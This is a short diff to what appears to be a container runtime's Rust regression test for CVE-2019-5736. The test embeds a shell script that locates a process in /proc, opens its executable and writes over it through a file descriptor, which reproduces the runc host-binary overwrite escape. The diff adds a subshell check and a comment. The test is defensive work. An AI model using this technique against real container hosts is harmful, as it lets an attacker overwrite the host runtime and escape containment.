@@ -59,7 +59,8 @@ fn cve_2019_5736_overwriting_the_runtime_through_proc_self_exe() {
         let program = oci.use_own_copy();
         let script = "mkfifo /tmp/log; echo ready
             while :; do for process in /proc/[0-9]*; do
-                if grep -q nobod[y] $process/cmdline; then exec 9<$process/exe; break 2; fi
+                # Before its execve the process hides its program: asked in a subshell, for a refusal ends a shell.
+                if grep -q nobod[y] $process/cmdline && (: <$process/exe); then exec 9<$process/exe; break 2; fi
             done 2>/dev/null; done
             cat /tmp/log >/dev/null; sleep 1; echo overwritten >/proc/self/fd/9; touch /tmp/done; sleep 60";
         let bundle = oci.running(|spec| {
